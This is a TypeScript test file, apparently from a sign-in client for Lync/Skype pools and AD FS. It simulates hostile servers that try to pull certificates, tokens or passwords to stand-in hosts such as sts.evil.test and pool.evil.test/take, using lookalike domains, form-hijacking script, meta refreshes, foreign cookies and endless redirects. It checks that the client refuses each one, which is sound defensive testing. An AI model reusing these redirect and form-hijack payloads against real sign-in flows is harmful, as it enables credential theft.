/** Servers that want the certificate, the token or the password for somebody else. What counts is what reached whom. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Attacked, type Attempt, expectRefused, startAttacked } from '../support/hostile-pool.js';
import type { Site } from '../support/named-hosts.js';
import { certificatePage, tokenPage } from '../unit/sign-in/passive/adfs-pages.js';
import { pool, redirect, signInRequest, sts, WCTX, WRESULT } from '../unit/sign-in/passive/fake-sites.js';
import { APPLICATIONS_PATH, applicationOf, at, challenge, decentBehind, discovery, json, POOL, USER_PATH, ucwa } from './hostile-sites.js';

const NETWORK = 9;
const EVIL = 'https://sts.evil.test/adfs/ls/';
let attacked: Attacked;

beforeAll(async () => {
  attacked = await startAttacked();
});
afterAll(() => attacked.stop());

async function refused(sites: Site[], code: string, args: string[] = []): Promise<Attempt> {
  const attempt = await attacked.attempt(sites, args);
  expectRefused(attempt, attacked.lab, NETWORK, code);
  return attempt;
}

const strangers = ({ asked }: Attempt) => asked.filter(({ host }) => /evil|:8443/.test(host));
const shown = ({ log }: Attempt) => log.filter((line) => line.endsWith('+card'));

describe('the sign-in page', () => {
  test.each([
    ['a form for the certificate at a stranger', certificatePage(EVIL)],
    ['one at a stranger whose name begins like that of AD FS', certificatePage('https://certauth.sts.lab.test.evil.test/adfs/ls/')],
    ['one at a stranger whose name ends like it', certificatePage('https://evil-lab.test/adfs/ls/')],
    ['one at another host of the organisation, on port 443', certificatePage('https://mail.lab.test/adfs/ls/')],
    ['one on another port of another host', certificatePage('https://mail.lab.test:49443/adfs/ls/')],
    ['a form that gives the token to a stranger', tokenPage(EVIL, WRESULT, WCTX)],
    ['one that gives it to another port of the pool', tokenPage('https://pool.lab.test:8443/PassiveAuth/', WRESULT, WCTX)],
    ['one that gives it to AD FS itself', tokenPage('https://sts.lab.test/take', WRESULT, WCTX)],
  ])('%s', async (_, body) => {
    const attempt = await refused(decentBehind(sts(() => ({ body }))), 'REDIRECT_REFUSED', ['--method', 'passive']);
    expect(strangers(attempt)).toEqual([]);
    expect(shown(attempt)).toEqual([]);
    expect(attempt.asked.some(({ form }) => form.has('wresult'))).toBe(false);
  });

  test('scripts in a form, and a page that refreshes itself, do nothing', async () => {
    const script = `<script>document.forms[0].action="${EVIL}";document.forms[0].submit()</script>`;
    const body = `<meta http-equiv="refresh" content="0;url=${EVIL}"><form onsubmit="this.action='${EVIL}'" method="post">${script}<input type="password" name="p"></form>`;
    const attempt = await attacked.attempt(decentBehind(sts(() => ({ body, headers: { Refresh: `0;url=${EVIL}` } }))), [
      '--method',
      'passive',
    ]);
    expectRefused(attempt, attacked.lab, 4, 'METHOD_NOT_OFFERED');
    expect(strangers(attempt)).toEqual([]);
  });

  test.each([302, 307, 308])('a redirect with status %i of the certificate to a stranger', async (status) => {
    const away = sts(({ method }) => (method === 'POST' ? redirect(EVIL, status) : { body: certificatePage('/adfs/ls/?x=1') }));
    const attempt = await refused(decentBehind(away), 'REDIRECT_REFUSED', ['--method', 'passive']);
    expect(strangers(attempt)).toEqual([]);
    expect(shown(attempt)).toEqual([]);
  });

  test('cookies for foreign domains and whole public suffixes go nowhere else', async () => {
    const cookies = ['a=1; Domain=evil.test', 'b=2; Domain=pool.lab.test', 'c=3; Domain=test', 'd=4; Domain=certauth.sts.lab.test'];
    let first = true;
    const setter = sts(({ query }) => {
      if (!first) return undefined;
      first = false;
      return redirect(`/adfs/ls/?${query}`, 302, [...cookies, 'own=5; Path=/']);
    });
    const attempt = await attacked.attempt(decentBehind(setter), ['--method', 'passive']);
    expect(attempt.json().result).toMatchObject({ signedIn: true });
    const names = (host: string) => attempt.asked.filter((asked) => asked.host === host).flatMap(({ cookies: sent }) => Object.keys(sent));
    expect(names('sts.lab.test')).toContain('own');
    for (const host of ['pool.lab.test', 'certauth.sts.lab.test', 'sts.lab.test']) {
      expect(names(host).filter((name) => /^[abcd]$/.test(name))).toEqual([]);
    }
    await attacked.lab.run(['forget-credentials']);
  });
});

describe('the pool', () => {
  test.each(['https://sts.evil.test', 'https://evil-lab.test', 'https://sts.lab.test.evil.test'])(
    'sends us to the AD FS of another domain: %s',
    async (elsewhere) => {
      const attempt = await refused([discovery, ucwa(), pool(elsewhere)], 'DOMAIN_UNTRUSTED');
      expect(strangers(attempt)).toEqual([]);
    },
  );

  test.each([
    [
      'its token service',
      at('pool.lab.test', USER_PATH, () => challenge('urn:microsoft.rtc:passive', 'https://pool.evil.test/oauthtoken')),
    ],
    ['its passive page', at('pool.lab.test', '/WebTicket/', () => json({ ms_rtc_passiveauthuri: 'https://pool.evil.test/p' }, 400))],
    [
      'the user resource',
      at('lyncdiscoverinternal.lab.test', '/', () => json({ _links: { user: { href: 'https://pool.evil.test/user' } } })),
    ],
  ])('has %s in another domain', async (_, site) => {
    expect(strangers(await refused(decentBehind(site), 'DOMAIN_UNTRUSTED'))).toEqual([]);
  });

  test.each([302, 307, 308])('passes the token on with status %i', async (status) => {
    const thief = at('pool.lab.test', '/PassiveAuth', ({ method }) =>
      method === 'POST' ? redirect('https://pool.evil.test/take', status) : undefined,
    );
    const attempt = await attacked.attempt(decentBehind(thief), ['--method', 'passive']);
    expectRefused(attempt, attacked.lab, 4, 'SIGN_IN_REFUSED');
    expect(strangers(attempt)).toEqual([]);
    expect(attempt.asked.filter(({ form }) => form.has('wresult')).length).toBe(1);
  });

  test.each([
    ['applications', json({ _links: { applications: { href: 'https://pool.evil.test/ucwa/applications' } } })],
    ['the home server', json({ _links: { redirect: { href: 'https://pool.evil.test/user' } } })],
    ['the user resource, by a redirect', redirect('https://pool.evil.test/user', 307)],
  ])('has %s in another domain once it has given the token', async (_, answer) => {
    const site = at('pool.lab.test', USER_PATH, ({ headers }) => (headers.authorization === undefined ? undefined : answer));
    expect(strangers(await refused(decentBehind(site), 'DOMAIN_UNTRUSTED', ['--method', 'passive']))).toEqual([]);
  });

  test.each([
    ['names an application at another origin', { application: applicationOf('Alice', 'https://pool.evil.test/ucwa/1') }],
    ['names one on another port', { application: applicationOf('Alice', `${POOL}:8443/ucwa/1`) }],
  ])('%s', async (_, options) => {
    const attempt = await refused([...decentBehind(ucwa(options))], 'SERVER_ERROR', ['--method', 'passive']);
    expect(strangers(attempt)).toEqual([]);
  });

  test('redirects the request for an application to a stranger', async () => {
    const site = at('pool.lab.test', APPLICATIONS_PATH, () => redirect('https://pool.evil.test/take', 307));
    expect(strangers(await refused(decentBehind(site), 'REDIRECT_REFUSED', ['--method', 'passive']))).toEqual([]);
  });
});

describe('AD FS, by WS-Trust', () => {
  const mex = (location: string) =>
    at('sts.lab.test', '/adfs/services/trust/mex', () => ({
      body: `<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><service><port binding="b"><address location="${location}"/></port></service></definitions>`,
    }));
  const endpoint = (host: string, kind = 'certificatemixed') => `https://${host}/adfs/services/trust/13/${kind}`;

  test.each(['sts.evil.test', 'evil-lab.test', 'mail.lab.test', 'certauth.sts.lab.test.evil.test'])(
    'names its endpoints at %s',
    async (host) => {
      const attempt = await refused(decentBehind(mex(endpoint(host))), 'DOMAIN_UNTRUSTED', ['--method', 'certificate']);
      expect(attempt.asked.some((asked) => asked.host === host)).toBe(false);
    },
  );

  test.each(['certificatemixed', 'usernamemixed'])('redirects what goes to %s', async (kind) => {
    const away = at('sts.lab.test', '/adfs/services/trust/13', () => redirect('https://sts.evil.test/take', 307));
    const method = kind === 'usernamemixed' ? 'password' : 'certificate';
    const noPassword = at('pool.lab.test', '/WebTicket/', ({ form }) =>
      form.get('grant_type') === 'password' ? json({ error: 'unsupported_grant_type' }, 400) : undefined,
    );
    const sites = decentBehind(noPassword, mex(endpoint('sts.lab.test', kind)), away);
    expect(strangers(await refused(sites, 'REDIRECT_REFUSED', ['--method', method]))).toEqual([]);
  });

  test.each(['urn:federation:MicrosoftOnline', 'https://login.evil.test/', 'nonsense'])(
    'is not asked for a token for another service, which the pool could use there: %s',
    async (realm) => {
      const sent = redirect(signInRequest('https://sts.lab.test', realm));
      const greedy = at('pool.lab.test', '/PassiveAuth', () => sent);
      const attempt = await attacked.attempt(decentBehind(greedy, mex(endpoint('sts.lab.test'))), ['--method', 'certificate']);
      expectRefused(attempt, attacked.lab, 4, 'METHOD_NOT_OFFERED');
      expect(attempt.asked.some(({ method, host }) => method === 'POST' && host === 'sts.lab.test')).toBe(false);
    },
  );
});

describe('ways without an end', () => {
  const endless = (host: string, path: string) => {
    let count = 0;
    return at(host, path, () => {
      count += 1;
      return redirect(`https://${host}${path}?n=${count}`);
    });
  };

  test.each([
    ['discovery', endless('lyncdiscoverinternal.lab.test', '/'), [], 'DISCOVERY_FAILED'],
    ['the user resource', endless('pool.lab.test', USER_PATH), [], 'REDIRECT_REFUSED'],
    ['the passive page', endless('pool.lab.test', '/PassiveAuth/'), ['--method', 'passive'], 'REDIRECT_REFUSED'],
    ['AD FS', endless('sts.lab.test', '/adfs/ls/'), ['--method', 'passive'], 'REDIRECT_REFUSED'],
  ])('%s', async (where, site, args, code) => {
    const nowhere: Site[] = where === 'discovery' ? [site] : decentBehind(site);
    const attempt = await refused(nowhere, code, args);
    expect(attempt.log.length).toBeLessThan(40);
  });

  test('a home server behind every home server', async () => {
    let count = 0;
    const next = at('pool.lab.test', '/', ({ path, headers }) => {
      if (headers.authorization === undefined || path.startsWith('/WebTicket')) return undefined;
      count += 1;
      return json({ _links: { redirect: { href: `${USER_PATH}?n=${count}` } } });
    });
    await refused(decentBehind(next), 'REDIRECT_REFUSED', ['--method', 'passive']);
    expect(count).toBe(6);
  });
});
